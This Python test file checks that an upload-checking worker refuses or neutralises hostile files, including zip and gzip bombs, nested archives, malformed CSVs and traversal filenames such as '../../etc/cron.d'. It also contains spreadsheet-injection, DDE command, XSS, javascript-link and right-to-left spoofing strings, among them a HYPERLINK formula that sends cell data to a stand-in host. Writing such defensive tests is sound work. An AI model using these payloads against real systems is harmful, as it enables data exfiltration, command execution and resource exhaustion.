"""Uploads made to do harm, sent the whole way that an analyst's file goes: through the process that
checks them. Each is refused in plain words or does nothing, and the process stays small.

`CORRIDOR_WATCH_FAULTS=whole` (`make faults`) tries those of hundreds of megabytes too.
"""

import gzip
import io
import os
import pickle
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from functools import cache

import pandas as pd
import pytest

from riskdata import catalogue
from riskdata.datapackage import as_csv
from riskdata.desk.drafted import Drafts
from riskdata.desk.files import LARGEST_UPLOAD, MB, parts
from riskdata.desk.tables import table
from riskdata.reading import typed
from tests.browser.app import ROOT

WHOLE = os.environ.get("CORRIDOR_WATCH_FAULTS") == "whole"
long_round = pytest.mark.skipif(not WHOLE, reason="runs in `make faults`")

MOST = 2100 * MB
"""With foul files of a few megabytes each."""
MOST_AT_LARGEST = 4096 * MB
"""With the largest upload that there can be: half of what the process may have."""


@dataclass(frozen=True)
class Answer:
    """What the check of an upload said, and the most memory that its process held."""

    drafts: Drafts | str
    peak: int

    @property
    def words(self) -> list[str]:
        """Each reason for which a table was refused, with what to do about it."""
        assert isinstance(self.drafts, Drafts)
        return [str(found) for draft in self.drafts.drafts for found in draft.refused]


def checked(*uploads: tuple[str, bytes]) -> Answer:
    """Have uploads checked by `riskdata.desk.worker`, as the page does."""
    command = [sys.executable, "-m", "riskdata.desk.worker"]
    with subprocess.Popen(
        command, cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    ) as worker:
        assert worker.stdin
        assert worker.stdout
        pickle.dump((uploads, {}), worker.stdin, pickle.HIGHEST_PROTOCOL)
        worker.stdin.close()
        said = worker.stdout.read()
        _, status, used = os.wait4(worker.pid, 0)
        worker.returncode = os.waitstatus_to_exitcode(status)
    assert worker.returncode == 0
    return Answer(pickle.loads(said)[0], used.ru_maxrss * 1024)


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in members.items():
            opened.writestr(name, content)
    return out.getvalue()


def rows(count: int) -> bytes:
    return b"date,title\n" + b"1,2\n" * count


def one_cell(size: int) -> bytes:
    return b"date,title\n1," + b"a" * size + b"\n"


def bomb_within_the_ratio(size: int) -> bytes:
    """One cell that unpacks to `size` bytes and is packed 100 times only."""
    out = io.BytesIO()
    block = b"a" * 30_000
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=1) as opened:
        opened.write(b"date,title\n1,")
        for _ in range(size // len(block)):
            opened.write(block + os.urandom(150).hex().encode())
    return out.getvalue()


def test_a_pile_of_foul_files_is_refused_file_by_file_and_in_little_memory():
    zeros = bytes(60 * MB)
    foul = {
        "bomb.zip": (zipped({"incidents.csv": zeros}), "unpacks to more than"),
        "bomb.csv.gz": (gzip.compress(zeros, 1), "unpacks to more than"),
        "matryoshka.zip": (zipped({"a.zip": zipped({"b.zip": b""})}), "packed once more"),
        "many-rows.csv": (rows(10_000_000), "has more than 2,000,000 rows"),
        "long-cell.csv": (one_cell(20 * MB), "has a cell of more than 131,072 characters"),
        "nul.csv": (b"date,title\n2024-01-01,a\0b\n", "holds a NUL character"),
        "ragged.csv": (b"date,title\n2024-01-01,a,b,c\n", "is where the row goes wrong"),
        "twice.csv": (b"date,title,title\n2024-01-01,a,b\n", "stands twice in the header"),
        "no-header.csv": (b"1,2,3\n4,5,6\n", "template"),
        "binary.csv": (os.urandom(1 * MB), ""),
    }  # fmt: skip
    answer = checked(*((name, content) for name, (content, _) in foul.items()))
    assert isinstance(answer.drafts, Drafts)
    assert [draft.file for draft in answer.drafts.drafts] == list(foul)
    for draft, (_, said) in zip(answer.drafts.drafts, foul.values(), strict=True):
        assert any(said in str(found) for found in draft.refused), draft
        assert all(found.remedy for found in draft.refused)
    assert answer.drafts.changes == ()
    assert answer.peak < MOST


@cache
def incidents() -> pd.DataFrame:
    return catalogue.load("incidents")


HARMFUL = {
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HTML": "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "Markdown": "[see](javascript:alert(1)) ![](http://evil.example/a.png) :red[x] $x$",
    "right to left": "\u202egnp.exe\u202c and \u2067more\u2069",
    "control characters": "bell\x07 escape\x1b[31m backspace\x08",
}  # fmt: skip


def test_harmful_texts_stay_text_and_come_back_from_an_export_as_they_were():
    texts = pd.Series([*HARMFUL.values()], dtype="str")
    events = incidents().copy()
    events["summary"] = pd.concat([texts, events["summary"].iloc[len(texts) :]], ignore_index=True)
    answer = checked(("incidents.csv", as_csv(events)))
    assert isinstance(answer.drafts, Drafts)
    (draft,) = answer.drafts.drafts
    assert draft.ready
    (change,) = answer.drafts.changes
    assert draft.difference is not None
    assert draft.difference.cells == {"summary": len(HARMFUL)}
    lines = change.content.csv.decode()
    assert ",=HYPERLINK" not in lines
    assert ',"=HYPERLINK' not in lines
    assert ",@SUM" not in lines
    assert draft.checked is not None
    assert {found.kind for found in draft.checked.warnings} == {"stray characters"}
    (part,) = parts("incidents.csv", change.content.csv)
    assert as_csv(typed("incidents", table(part))) == change.content.csv


def test_tricks_in_names_are_shown_harmless_and_write_nothing():
    content = as_csv(incidents())
    answer = checked(
        ("up.zip", zipped({"../../etc/cron.d/incidents.csv": content})),
        ("../../<b>x</b>\r\n\x1b[31m.csv", b"no,table\n"),
    )
    assert isinstance(answer.drafts, Drafts)
    shown = [draft.file for draft in answer.drafts.drafts]
    assert shown[0] == "up.zip: etc/cron.d/incidents.csv"
    assert shown[1].endswith(".csv")
    assert not any(sign in name for name in shown for sign in ("..", "\r", "\n", "\x1b"))


@long_round
@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.csv", lambda: one_cell(LARGEST_UPLOAD - 20), "has a cell of more than"),
        ("a.csv", lambda: rows((LARGEST_UPLOAD - 20) // 4), "has more than 2,000,000 rows"),
        ("a.csv.gz", lambda: bomb_within_the_ratio(1000 * MB), "has a cell of more than"),
        ("a.csv", lambda: b"date," * (LARGEST_UPLOAD // 5), "has more than 500 columns"),
        ("a.csv", lambda: b'date,title\n1,"' + b"\n" * (LARGEST_UPLOAD - 20), "quotation mark"),
        ("a.csv", lambda: b'"' * (LARGEST_UPLOAD - 20), "is empty"),
    ],
    ids=["cell", "rows", "gigabyte", "columns", "open quote", "quotes"],
)  # fmt: skip
def test_as_much_as_an_upload_may_hold_of_one_foul_thing(name, content, said):
    answer = checked((name, content()))
    print(f"{said}: {answer.peak // MB:,} MB")
    assert any(said in words for words in answer.words), answer.words
    assert answer.peak < MOST_AT_LARGEST
